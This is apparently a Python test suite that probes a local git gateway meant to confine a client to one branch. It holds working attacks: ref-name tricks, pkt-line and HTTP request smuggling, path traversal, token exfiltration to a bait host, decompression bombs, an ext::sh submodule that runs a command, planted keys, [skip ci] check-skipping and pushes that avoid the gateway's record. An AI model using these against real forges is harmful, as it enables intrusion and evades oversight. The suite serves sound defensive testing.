# The one branch of the one repository, with raw packet lines to the gateway's git port. What was written is
# noticed in the repositories.

ZERO = "0" * 40

def git(*arguments, **more):
    done = subprocess.run([tool("git"), *arguments], capture_output=True, **more)
    if done.returncode:
        cannot("git %s: %s" % (arguments[0], done.stderr[-200:]))
    return done.stdout

def commit(message="An attack", parent=None):
    """A commit with the files of the checked out one."""
    tree = git("rev-parse", "HEAD^{tree}").decode().strip()
    parents = [] if parent is False else ["-p", parent or base()]
    return git("commit-tree", tree, *parents, "-m", message).decode().strip()

def base():
    return git("rev-parse", "refs/remotes/origin/main").decode().strip()

def pack(*commits, without=None):
    """A pack of what these commits have and `without` has not."""
    wanted = list(commits) + (["^" + without] if without else [])
    return git("pack-objects", "--revs", "--stdout", "-q", input="\n".join(wanted).encode() + b"\n")

def line(text):
    data = text.encode("latin-1") if isinstance(text, str) else text
    return b"%04x" % (len(data) + 4) + data

def request(commands, capabilities="report-status", data=b""):
    """A push as it is sent: commands of old, new and reference, then the pack."""
    lines = [line("%s %s %s" % command + ("\0 " + capabilities if at == 0 else "")) for at, command in enumerate(commands)]
    return b"".join(lines) + b"0000" + data

def http(method, path, body=b"", headers=""):
    head = "%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n%s" % (method, path, headers)
    if body or method == "POST":
        head += "Content-Length: %d\r\n" % len(body)
    return raw(head.encode("latin-1") + b"\r\n" + body)

def raw(data):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream:
        stream.settimeout(15)
        stream.connect(("127.0.0.1", number("GIT_PORT")))
        try:
            stream.sendall(data)
        except OSError:
            pass
        answer = b""
        while len(answer) < 1 << 20:
            try:
                part = stream.recv(65536)
            except OSError:
                break
            if not part:
                break
            answer += part
        return answer

def prefix():
    return "/" + env("REMOTE").split("/", 3)[3]

PUSH = "Content-Type: application/x-git-receive-pack-request\r\n"

def push(commands, data=b"", capabilities="report-status", headers="", path=None):
    return http("POST", (path or prefix()) + "/git-receive-pack", request(commands, capabilities, data), PUSH + headers)

def push_one(reference, **more):
    new = commit()
    return push([(ZERO, new, reference)], pack(new, without=base()), **more)

@recorded("push")
def push_to_the_default_branch():
    """Pushes to the branch that people work on"""
    new = commit()
    push([(base(), new, "refs/heads/main")], pack(new, without=base()))

@recorded("push")
def push_to_another_branch():
    """Makes a branch besides its own"""
    push_one("refs/heads/other")

@recorded("push")
def push_a_tag():
    """Makes a tag, which may start a release"""
    push_one("refs/tags/v1")

def push_to_a_hidden_place():
    """Writes references that are no branches: pull requests, notes, replacements, HEAD"""
    for name in ["refs/pull/1/head", "refs/notes/commits", "refs/replace/" + base(), "HEAD", "refs/heads", "refs/",
                 "refs/remotes/origin/main", "refs/stash", "refs/merge-requests/1/head", "refs/changes/01/1/1"]:
        push_one(name)

@recorded("push")
def push_two_at_once():
    """Pushes its own branch together with another"""
    new = commit()
    push([(ZERO, new, "refs/heads/" + env("BRANCH")), (base(), new, "refs/heads/main")], pack(new, without=base()),
         "report-status atomic")

@recorded("push")
def delete_the_default_branch():
    """Deletes the branch that people work on"""
    push([(base(), ZERO, "refs/heads/main")], capabilities="report-status delete-refs")

def write_the_name_differently():
    """Writes its branch's name so that a check and git read it differently"""
    own = env("BRANCH")
    for name in ["refs/heads/%s/../main" % own, "refs/heads//main", "refs/heads/%s\nrefs/heads/main" % own,
                 "refs/heads/main\0x", "REFS/HEADS/MAIN", "refs/heads/main/", "refs/heads/./main", "refs/heads/%s\x00 main" % own,
                 "refs/heads/main ", " refs/heads/main", "refs/heads/%s\tmain" % own, "refs/heads/mai\xcc\x80n", "refs/heads/main.lock",
                 "refs/heads/@{-1}", "refs/heads/main^{}", "../../refs/heads/main", "refs/heads/%s~1" % own]:
        push_one(name)

@undemonstrated("gateway: git receive-pack carries out none of them either")
def send_commands_after_the_end():
    """Adds commands after the flush packet, before and after the pack"""
    new = commit()
    data = pack(new, without=base())
    own = "%s %s refs/heads/%s" % (ZERO, new, env("BRANCH"))
    other = line("%s %s refs/heads/main" % (base(), new))
    for body in [line(own + "\0report-status") + b"0000" + other + b"0000" + data,
                 line(own + "\0report-status") + b"0000" + data + other + b"0000" + data,
                 b"0000" + other + b"0000" + data,
                 line(own + "\0report-status") + b"0001" + other + b"0000" + data,
                 line(own + "\0report-status") + b"0002" + other + b"0000" + data,
                 line(own + "\0report-status push-options") + b"0000" + line("x=y") + other + b"0000" + data,
                 line(own + "\0report-status") + b"0003" + other + b"0000" + data]:
        http("POST", prefix() + "/git-receive-pack", body, PUSH)

def send_odd_packet_lines():
    """Sends lengths and lines that parsers disagree about"""
    new = commit()
    data = pack(new, without=base())
    main = "%s %s refs/heads/main" % (base(), new)
    for first in [b"%04X" % (len(main) + 4) + main.encode(), b"+%03x" % (len(main) + 4) + main.encode(), b" %03x" % (len(main) + 4) + main.encode(),
                  b"0x%02x" % (len(main) + 4) + main.encode(), line("shallow " + base()) + line(main), line("unshallow " + base()) + line(main),
                  line("push-cert\0report-status\n") + line("certificate version 0.1\n") + line("\n") + line(main + "\n") + line("push-cert-end\n"),
                  line(main.replace(" ", "  ")), line(main.upper()), b"fff0" + main.encode().ljust(65516), b"0004" + line(main), line(main + "\n\n")]:
        http("POST", prefix() + "/git-receive-pack", first + b"0000" + data, PUSH)

@recorded("push")
def push_without_a_report():
    """Pushes to another branch without asking for a report, so that nobody sees a refusal"""
    new = commit()
    push([(base(), new, "refs/heads/main")], pack(new, without=base()), capabilities="side-band-64k")

@undemonstrated("gateway: nothing is recorded there, so every push is unnoticed")
def push_unnoticed():
    """Pushes to its own branch so that the gateway does not record it"""
    honest()
    old, parent = tip()
    new = commit("unnoticed %d" % time.time(), parent)
    push([(old, new, "refs/heads/" + env("BRANCH"))], pack(new, without=parent), capabilities="agent=x side-band-64k=1")
    blocked("what was recorded is compared with the branch")

@recorded("push")
def rewind_its_branch():
    """Takes back what it pushed before, or what a person pushed"""
    own = "refs/heads/" + env("BRANCH")
    seen = git("ls-remote", env("REMOTE"), own).decode().split()
    if not seen:
        new = commit("to be rewound")
        push([(ZERO, new, own)], pack(new, without=base()))
        seen = git("ls-remote", env("REMOTE"), own).decode().split()
        if not seen:
            cannot("its own branch could not be pushed")
    honest()
    seen = git("ls-remote", env("REMOTE"), own).decode().split()
    new = commit("without a parent", parent=False)
    push([(seen[0], new, own)], pack(new))
    if git("ls-remote", env("REMOTE"), own).decode().split()[0] == new:
        success("the branch was rewound")

@recorded("push")
def delete_its_branch():
    """Deletes its own branch, on which a person may have pushed"""
    own = "refs/heads/" + env("BRANCH")
    seen = git("ls-remote", env("REMOTE"), own).decode().split()
    if not seen:
        new = commit("to be deleted")
        push([(ZERO, new, own)], pack(new, without=base()))
        seen = git("ls-remote", env("REMOTE"), own).decode().split()
        if not seen:
            cannot("its own branch could not be pushed")
    push([(seen[0], ZERO, own)], capabilities="report-status delete-refs")
    if not git("ls-remote", env("REMOTE"), own):
        success("the branch was deleted")

def reach_another_repository():
    """Asks for another repository that the token may write"""
    new = commit()
    body = request([(ZERO, new, "refs/heads/stolen")], "report-status", pack(new))
    own = prefix()
    other = "/octo/other.git"
    paths = [other, own + "/.." + other, own + "/../../.." + other, own + "/%2e%2e" + other, own + "/..%2f..%2focto/other.git",
             own.rsplit("/", 1)[0] + other, "/" + other, own + ";/../" + other, own + "/info/refs/../../../.." + other,
             own.replace("repo.git", "octo/other.git"), own + "%00" + other, own + "?x=" + other, own + "\\..\\" + other]
    for path in paths:
        http("POST", path + "/git-receive-pack", body, PUSH)
        answer = http("GET", path + "/info/refs?service=git-receive-pack")
        if b" 200 " in answer[:16] and b"refs/heads/main" in answer and path != own + "?x=" + other:
            success("the references of " + path)

def send_the_token_elsewhere():
    """Makes the gateway send its token to a server of the attacker's"""
    host = env("HOST_ADDRESSES").split()[0] + ":" + env("BAIT_TCP")
    path = prefix() + "/info/refs?service=git-upload-pack"
    for target, headers in [("http://%s%s" % (host, path), ""), (path, "X-Forwarded-Host: %s\r\n" % host), (path, "Forwarded: host=%s\r\n" % host),
                            ("@%s%s" % (host, path), ""), ("//%s%s" % (host, path), ""), (path + "&x=http://%s/" % host, ""),
                            (path, "X-Original-URL: http://%s/\r\n" % host), (path, "Proxy: http://%s\r\n" % host)]:
        raw(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n%s\r\n" % (target, host, headers)).encode())

def read_the_token_in_an_answer():
    """Makes the forge or the gateway show the token in an answer"""
    own = prefix()
    for method, path, headers in [("TRACE", own + "/info/refs", ""), ("OPTIONS", own + "/info/refs", ""), ("GET", own + "/config", ""),
                                  ("GET", own + "/info/refs?service=git-upload-pack", "Authorization: Basic eDp5\r\n"),
                                  ("GET", own + "/info/refs?service=git-receive-pack", "Accept: */*\r\nExpect: 100-continue\r\n"),
                                  ("GET", own + "/nowhere", ""), ("HEAD", own + "/HEAD", ""), ("POST", own + "/git-upload-pack", "")]:
        show(http(method, path, headers=headers))
    show(raw(b"GET %s/info/refs?service=%s HTTP/1.1\r\nHost: x\r\n\r\n" % (own.encode(), b"A" * 20000)))
    show(raw(b"\0\0\0\0\r\n\r\n"))

def use_another_service():
    """Asks the forge for services other than fetch and push"""
    own = prefix()
    for path in ["/git-upload-archive", "/info/lfs/objects/batch", "/info/lfs/locks", "/objects/info/packs", "/objects/info/alternates",
                 "/HEAD", "/config", "/description", "/hooks/post-receive", "/info/refs", "/info/refs?service=git-upload-archive",
                 "/../../api/v3/user", "/info/refs?service=git-receive-pack&service=git-upload-archive"]:
        for method in ["GET", "POST", "PUT", "DELETE", "PATCH", "PROPFIND", "MKCOL", "LOCK"]:
            answer = http(method, own + path)
            if b" 200 " in answer[:16] and not path.startswith("/info/refs"):
                success("%s %s" % (method, path))

def smuggle_a_push():
    """Hides a push in the body of another request"""
    new = commit()
    body = request([(base(), new, "refs/heads/main")], "report-status", pack(new, without=base()))
    inner = ("POST %s/git-receive-pack HTTP/1.1\r\nHost: x\r\n%sContent-Length: %d\r\n\r\n" % (prefix(), PUSH, len(body))).encode() + body
    for head in ["Content-Length: 0\r\nTransfer-Encoding: chunked\r\n", "Content-Length: 4\r\nContent-Length: %d\r\n" % len(inner),
                 "Transfer-Encoding: gzip, chunked\r\n", "Transfer-Encoding:\x0bchunked\r\n", "Content-Encoding: gzip\r\nContent-Length: 10\r\n"]:
        raw(("POST %s/git-upload-pack HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-git-upload-pack-request\r\n%s\r\n0\r\n\r\n"
             % (prefix(), head)).encode() + inner)

def push_a_packed_bomb():
    """Pushes a few kilobytes that become gigabytes"""
    new = commit()
    body = request([(ZERO, new, "refs/heads/" + env("BRANCH"))], "report-status", pack(new, without=base()))
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = packer.compress(body) + b"".join(packer.compress(bytes(1 << 20)) for _ in range(200)) + packer.flush()
    http("POST", prefix() + "/git-receive-pack", bomb, PUSH + "Content-Encoding: gzip\r\n")

def blob_bomb(size):
    """A pack with one blob of zeros that says it has `size` bytes."""
    head, rest = bytearray(), size >> 4
    byte = 3 << 4 | size & 15
    while rest:
        head.append(byte | 128)
        byte, rest = rest & 127, rest >> 7
    head.append(byte)
    packer = zlib.compressobj(9)
    block = bytes(1 << 20)
    data = b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()
    whole = b"PACK" + struct.pack(">II", 2, 1) + bytes(head) + data
    import hashlib
    return whole + hashlib.sha1(whole).digest()

@limit(60)
@recorded("push")
@undemonstrated("gateway: it costs the forge, and a worker that does not look into packs nothing")
def push_a_large_object():
    """Pushes an object of zeros that is small in the pack and large on the worker"""
    push([(ZERO, "1" * 40, "refs/heads/" + env("BRANCH"))], blob_bomb(400 << 20))

@undemonstrated("gateway: git receive-pack refuses it too")
@recorded("push")
def push_a_commit_that_is_not_there():
    """Pushes a reference to a commit that upstream does not have"""
    push([(ZERO, "1" * 40, "refs/heads/" + env("BRANCH"))], pack(commit(), without=base()))

def tree(entries):
    data = b"".join(b"%s %s\0%s" % (mode, name, bytes.fromhex(identity)) for mode, name, identity in entries)
    return git("hash-object", "-t", "tree", "-w", "--stdin", "--literally", input=data).decode().strip()

# The commit that its own branch is at, and the one to build on.
def tip():
    own = "refs/heads/" + env("BRANCH")
    seen = git("ls-remote", env("REMOTE"), own).decode().split()
    if not seen:
        return ZERO, base()
    git("fetch", "-q", env("REMOTE"), own)
    return seen[0], seen[0]

def push_commit(new, old, parent):
    own = "refs/heads/" + env("BRANCH")
    push([(old, new, own)], pack(new, without=parent))
    return git("ls-remote", env("REMOTE"), own).decode().startswith(new)

# Whether a commit with these files was accepted on top of its own branch.
def push_tree(entries):
    old, parent = tip()
    return push_commit(git("commit-tree", tree(entries), "-p", parent, "-m", "x").decode().strip(), old, parent)

# Honest pushes are accepted, so a refusal says something.
def honest():
    blob = git("hash-object", "-w", "--stdin", input=b"%f" % time.time()).decode().strip()
    if not push_tree([(b"100644", b"honest", blob)]):
        _end("broken", "an honest push was refused")

@recorded("push")
def push_a_tree_that_writes_into_git():
    """Pushes file names that a checkout would write into .git or outside of its folder"""
    honest()
    blob = git("hash-object", "-w", "--stdin", input=b"x").decode().strip()
    inner = tree([(b"100644", b"config", blob)])
    for name in [b".git", b"..", b".", b".GIT", b"git~1", b".g\xe2\x80\x8cit"]:
        if push_tree([(b"40000", name, inner)]):
            success("a tree with %r was accepted" % name)

@recorded("push")
def push_a_submodule_that_runs_a_program():
    """Pushes a submodule whose URL is a program for the one who clones it"""
    honest()
    config = b'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch /tmp/x"\n'
    blob = git("hash-object", "-w", "--stdin", input=config).decode().strip()
    if push_tree([(b"100644", b".gitmodules", blob), (b"160000", b"x", base())]):
        success("the submodule was accepted")

@recorded("push")
def push_a_secret():
    """Pushes a key and removes it in the next commit"""
    def one(content, parent):
        blob = git("hash-object", "-w", "--stdin", input=content).decode().strip()
        return git("commit-tree", tree([(b"100644", b"settings.py", blob)]), "-p", parent, "-m", "x").decode().strip()
    secret = "AKIA" + "QWERTYUIOP234567" + "\nghp_" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5\n"
    honest()
    old, parent = tip()
    with_it = one(("key = " + secret).encode(), parent)
    without = one(b"key = None\n", with_it)
    if push_commit(without, old, parent):
        success("the key is in the repository's history")

@recorded("push")
def push_words_that_the_forge_obeys():
    """Pushes commits whose messages close issues or keep the checks of the forge from running"""
    honest()
    for message in ["Fixes #1", "closes project#1", "Implements issue #1", "Greet [skip ci]", "Greet\n\nskip-checks: true"]:
        old, parent = tip()
        if push_commit(commit(message, parent), old, parent):
            success("%r was accepted" % message)
